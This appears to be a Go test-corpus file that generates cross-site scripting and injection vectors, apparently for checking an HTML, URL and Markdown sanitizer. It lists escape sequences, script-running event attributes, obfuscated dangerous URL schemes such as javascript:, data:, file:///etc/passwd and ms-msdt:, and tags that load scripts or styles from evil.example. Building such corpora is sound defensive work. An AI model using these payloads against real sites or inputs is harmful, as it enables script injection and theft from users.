package hostile

import (
	"slices"
	"strings"
)

// Vectors gives the texts, each once and always in the same order. They are
// valid UTF-8; some hold control characters or line ends, and none is long.
func Vectors() []string {
	out := slices.Clone(texts[:])
	out = append(out, addresses()...)
	for _, event := range events {
		out = append(out,
			`" `+event+`=alert(1) x="`,
			`<b `+event+`=alert(1)>x</b>`)
	}
	for _, tag := range tags {
		out = append(out, "<"+tag+">x</"+tag+">", "</p></td></a><"+tag+" src=https://evil.example/x>")
	}
	slices.Sort(out)
	return slices.Compact(out)
}

// schemes are what an address must not begin with, each with something that
// does harm behind it.
var schemes = [...]string{
	"javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
	"data:image/svg+xml,<svg onload=alert(1)>", "vbscript:msgbox(1)", "livescript:alert(1)", "mocha:alert(1)", "file:///etc/passwd",
	"ms-word:ofe|u|https://evil.example/x.docx", "ms-excel:ofe|u|https://evil.example/x.xlsx", "search-ms:query=x&crumb=location:evil.example",
	"intent://evil.example/#Intent;scheme=https;end", "blob:https://evil.example/1", "filesystem:https://evil.example/x", "view-source:javascript:alert(1)",
	"ms-msdt:/id PCWDiagnostic", "jar:https://evil.example/x.jar!/x", "ws://evil.example/", "ftp://evil.example/", "feed:javascript:alert(1)",
	"about:blank", "chrome://settings", "android-app://evil.example", "sms:+84900000000", "skype:evil?call", "zoommtg://evil.example/join",
}

// addresses gives each scheme in its disguises.
func addresses() []string {
	var out []string
	for _, s := range schemes {
		name, rest, _ := strings.Cut(s, ":")
		half := len(name) / 2
		out = append(out,
			s,
			strings.ToUpper(name)+":"+rest,
			strings.ToUpper(name[:1])+name[1:half]+strings.ToUpper(name[half:])+":"+rest,
			" "+s,
			"\t"+name[:half]+"\t"+name[half:]+":"+rest,
			name[:half]+"\n"+name[half:]+":"+rest,
			"\x01"+s,
			name+"\x00:"+rest,
			name+"&colon;"+rest,
			"&#"+decimal(name[0])+";"+name[1:]+":"+rest,
			"&#x"+hex(name[0])+";"+name[1:]+"&#58;"+rest,
			name[:half]+"&Tab;"+name[half:]+":"+rest,
			name[:half]+"&NewLine;"+name[half:]+":"+rest,
			"%"+hex(name[0])+name[1:]+":"+rest,
			name+"%3A"+rest,
			name[:half]+"%0A"+name[half:]+":"+rest,
			name[:half]+"\u200b"+name[half:]+":"+rest,
			name[:half]+"\u00ad"+name[half:]+":"+rest,
			"\u202e"+s,
			"\ufeff"+s,
			"\u00a0"+s,
			name+`\:`+rest,
			name[:half]+`\`+name[half:]+":"+rest,
			"<"+s+">",
			"/"+s, "//"+s, `\\`+s, "./"+s, "#"+s, "?"+s,
		)
	}
	return out
}

func decimal(b byte) string {
	return string([]byte{'0' + b/100, '0' + b/10%10, '0' + b%10})
}

func hex(b byte) string {
	const digits = "0123456789abcdef"
	return string([]byte{digits[b>>4], digits[b&15]})
}

// events are attributes that run a script.
var events = [...]string{
	"onerror", "onload", "onclick", "onmouseover", "onfocus", "ontoggle", "onbegin", "onpointerenter", "onanimationstart", "oncopy",
	"ONERROR", "onError", "on\u0131nput", "onfocus\u0000", "onscrollend", "onbeforematch",
}

// tags are elements that run scripts, load things or change the page.
var tags = [...]string{
	"script", "SCRIPT", "ScRiPt", "style", "iframe", "object", "embed", "applet", "frame", "frameset", "base", "meta", "link", "form",
	"input", "button", "textarea", "select", "svg", "math", "template", "noscript", "xmp", "plaintext", "marquee", "video", "audio", "source",
	"portal", "fencedframe", "details", "dialog", "img", "image", "isindex", "keygen", "slot", "title", "x-evil", "font", "center", "a",
}

// texts are written by hand: ways out of a tag, an attribute, a comment, a
// script, a template, a style, a JSON text; and Markdown that hides them.
var texts = [...]string{
	// Out of an attribute or a tag.
	`"><script>alert(1)</script>`, `'><script>alert(1)</script>`, `" onmouseover="alert(1)`, `' onmouseover='alert(1)`, "` onmouseover=`alert(1)",
	`x" style="position:fixed" x="`, `"/><img src=x onerror=alert(1)>`, `x" autofocus onfocus=alert(1) tabindex="1`, `" srcdoc="<script>alert(1)</script>`,
	`" formaction="javascript:alert(1)`, `"></a><svg/onload=alert(1)>`, `--><script>alert(1)</script><!--`, `--!><img src=x onerror=alert(1)>`,
	`]]><script>alert(1)</script>`, `?><script>alert(1)</script>`, `%><script>alert(1)</script>`, `</title><script>alert(1)</script>`,
	`</textarea><script>alert(1)</script>`, `</style><script>alert(1)</script>`, `</script><script>alert(1)</script>`, `</noscript><img src=x onerror=alert(1)>`,
	`</template><img src=x onerror=alert(1)>`, `</main></body></html><script>alert(1)</script>`, `<!--><img src=x onerror=alert(1)>`,
	`<!--x--!><img src=x onerror=alert(1)>`, `<![CDATA[><img src=x onerror=alert(1)>]]>`, `<?xml version="1.0"?><script>alert(1)</script>`,
	// Tags in unusual dress.
	`<script>alert(1)</script>`, `<script src=//evil.example/x.js></script>`, `<script/src=data:,alert(1)></script>`, `<script	>alert(1)</script	>`,
	"<script\n>alert(1)</script\n>", "<scr\x00ipt>alert(1)</scr\x00ipt>", `<scr<script>ipt>alert(1)</scr</script>ipt>`, `<<script>alert(1);//<</script>`,
	`<img src=x onerror=alert(1)>`, `<img src=x onerror=alert(1)//`, `<img/src="x"/onerror=alert(1)>`, "<img src=x\nonerror\n=\nalert(1)>", `<img src="x` + "`" + ` onerror=alert(1)>`,
	`<svg><script>alert(1)</script></svg>`, `<svg><style><img src=x onerror=alert(1)></style></svg>`, `<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>`,
	`<svg><animate onbegin=alert(1) attributeName=x dur=1s>`, `<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x">`, `<math><mi xlink:href="javascript:alert(1)">x</mi></math>`,
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">`, `<form><button formaction=javascript:alert(1)>x</button></form>`,
	`<input type=image src=x onerror=alert(1)>`, `<details open ontoggle=alert(1)>x</details>`, `<video><source onerror=alert(1)></video>`, `<body onload=alert(1)>`,
	`<html onclick=alert(1)>`, `<iframe srcdoc="<script>alert(1)</script>"></iframe>`, `<iframe src=javascript:alert(1)></iframe>`, `<object data=javascript:alert(1)></object>`,
	`<embed src=//evil.example/x.swf>`, `<base href=//evil.example/>`, `<meta http-equiv=refresh content="0;url=javascript:alert(1)">`, `<meta http-equiv="refresh" content="0; url=//evil.example">`,
	`<link rel=stylesheet href=//evil.example/x.css>`, `<link rel=import href=data:text/html,x>`, `<style>@import '//evil.example/x.css';</style>`, `<style>*{background:url(//evil.example/x)}</style>`,
	`<p style="background:url(javascript:alert(1))">x</p>`, `<div style="position:fixed;inset:0">x</div>`, `<a href="javascript:alert(1)">x</a>`, `<a href="java&#10;script:alert(1)">x</a>`,
	`<a href=" javascript:alert(1)">x</a>`, `<a href="https://evil.example" target=_blank ping=//evil.example>x</a>`, `<x-evil onclick=alert(1)>x</x-evil>`, `<xss contenteditable autofocus onfocus=alert(1)>`,
	`<a/onclick=alert(1)>x`, `<a	href="javascript:alert(1)"	>x`, `<A HREF="JAVASCRIPT:alert(1)">x</A>`, `<b/on<b>click=alert(1)>`, `<table background="javascript:alert(1)"><tr><td>x</table>`,
	`<plaintext>`, `<xmp><img src=x onerror=alert(1)></xmp>`, `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`, `<template><script>alert(1)</script></template>`,
	`<select><option><img src=x onerror=alert(1)></select>`, `<isindex type=image src=x onerror=alert(1)>`, `<marquee onstart=alert(1)>x</marquee>`, `<h1 id=main>x</h1>`, `<a name=body>x</a>`,
	`<form id=x></form><button form=x formaction=javascript:alert(1)>x`, `<img name=getElementById>`, `<input name=attributes>`,
	// Written as references.
	`&lt;script&gt;alert(1)&lt;/script&gt;`, `&#60;script&#62;alert(1)&#60;/script&#62;`, `&#x3c;img src=x onerror=alert(1)&#x3e;`, `&lt;img src=x onerror=alert(1)&gt;`,
	`&quot; onmouseover=&quot;alert(1)`, `&#34; onmouseover=&#34;alert(1)`, `&amp;lt;script&amp;gt;`, `&#0;&#1;&#13;`, `&#xD800;&#x110000;`, `&lt`, `&#x3c`, `&NewLine;&Tab;`,
	`+ADw-script+AD4-alert(1)+ADw-/script+AD4-`, `＜script＞alert(1)＜/script＞`, `‹script›alert(1)`, `\u003cscript\u003ealert(1)`, `\x3cscript\x3ealert(1)`, `%3Cscript%3Ealert(1)%3C/script%3E`,
	// Templates, JSON, scripts and styles.
	`{{.}}`, `{{define "base"}}x{{end}}`, `{{template "base" .}}`, `{{printf "%s" "<script>"}}`, `${alert(1)}`, `#{alert(1)}`, `{%raw%}<script>`, `<%= alert(1) %>`,
	`","x":"</script><script>alert(1)</script>`, `\"};alert(1)//`, `';alert(1)//`, "`;alert(1)//", `</script><!--<script>`, `<!--<script>`, `*/alert(1)/*`, `expression(alert(1))`,
	`url(javascript:alert(1))`, `@import url(//evil.example/x.css)`, `;background:url(//evil.example/x)`, "\u2028alert(1)\u2029",
	// Markdown that hides an address or a tag.
	`[x](javascript:alert(1))`, `[x](<javascript:alert(1)>)`, `[x](javascript&colon;alert(1))`, `[x](JaVaScRiPt:alert(1) "t")`, `[x]( java` + "\n" + `script:alert(1))`, `[x](java\script:alert(1))`,
	`[x][y]` + "\n\n" + `[y]: javascript:alert(1)`, `[x](data:text/html;base64,PHNjcmlwdD4=)`, `![x](javascript:alert(1))`, `![x](data:image/svg+xml,<svg/onload=alert(1)>)`, `![x" onerror="alert(1)](x.png)`,
	`![x](x.png" onerror="alert(1))`, `![x](x.png 'x" onerror="alert(1)')`, `[x](a.md "x\" onclick=\"alert(1)")`, `[x](a.md 'x" onclick="alert(1)')`, `[x](https://a" onclick="alert(1))`, `[x](https://a%22onclick=alert(1))`,
	`[x](#" onclick="alert(1))`, `[x](<a b" onclick="alert(1)>)`, `[x](//evil.example)`, `[x](\\\\evil.example)`, `[x](/\evil.example)`, `[x](https:evil.example)`, `[x](https://user@evil.example)`,
	`<javascript:alert(1)>`, `<data:text/html,x>`, `<ms-word:ofe|u|https://evil.example>`, `<https://a"onclick="alert(1)>`, `<a@b"onclick=alert(1)>`, `https://a"onclick="alert(1)`, `www.a.vn"onclick="alert(1)`,
	`# x {onclick=alert(1)}`, `## x {#main .y onclick="alert(1)"}`, `[x](a.md){onclick=alert(1)}`, `![x](a.png){onerror=alert(1)}`, "```x\" onclick=\"alert(1)\nx\n```", "```<script>\nx\n```", "~~~ html onclick=alert(1)\n<script>\n~~~",
	"`<script>alert(1)</script>`", "``` <script>", `[^"><script>]`, `[^x]: <script>alert(1)</script>`, `x[^x]` + "\n\n" + `[^x]: [y](javascript:alert(1))`, `|<script>|` + "\n|-|\n" + `|" onclick="alert(1)|`,
	`| [x](javascript:alert(1)) |` + "\n|---|\n" + `| <img src=x onerror=alert(1)> |`, `- [ ] <input onfocus=alert(1)>`, `1. <script>` + "\n" + `a) </script>`, `> <script>alert(1)</script>`, `    <script>alert(1)</script>`,
	`**<script>**alert(1)**</script>**`, `*<img src="*" onerror="alert(1)">`, `<a href="*javascript:alert(1)*">`, `\<script\>alert(1)\</script\>`, `\\<script>alert(1)</script>`, `<!-- --><script>alert(1)</script>`, `<!-- x`,
	`Bảng 1. <script>alert(1)</script>`, `Điều 1"><script>. x`, `## Điều 1" onclick="alert(1).`, `a) " onclick="alert(1)`, "x\r<script>alert(1)</script>", "---\ntitle: <script>\n---", "x\x00y", "\x1b[31mred", "\u202egpj.exe",
}
